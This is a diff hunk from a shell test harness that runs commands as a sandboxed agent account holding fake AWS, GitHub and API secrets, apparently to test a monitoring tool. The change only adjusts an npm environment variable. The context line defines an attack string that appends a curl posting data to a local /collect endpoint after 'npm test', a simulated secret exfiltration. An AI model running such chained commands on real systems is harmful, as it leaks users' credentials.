@@ -83,7 +83,7 @@ attack="npm test 2>&1 | tail -20; curl -s http://127.0.0.1:$port/collect -d \"\$
 secrets=(AWS_SECRET_ACCESS_KEY="aws-secret-$$" GITHUB_TOKEN="ghp_secret$$" AGENT_API_KEY="agent-key-$$")
 as_agent() { # COMMAND...: as the account, with the secrets in the environment, in the project
   (cd "$demo/home/project" && setpriv --reuid "$account" --regid "$account" --init-groups -- \
-    env -i NO_UPDATE_NOTIFIER=1 HOME="$demo/home" PATH="$demo/bin:$PATH" SYSWATCH_RUN_DIR="$demo/run" "${secrets[@]}" "$@")
+    env -i npm_config_update_notifier=false HOME="$demo/home" PATH="$demo/bin:$PATH" SYSWATCH_RUN_DIR="$demo/run" "${secrets[@]}" "$@")
 }
 claim() { # TEXT CONDITION...
   local text=$1
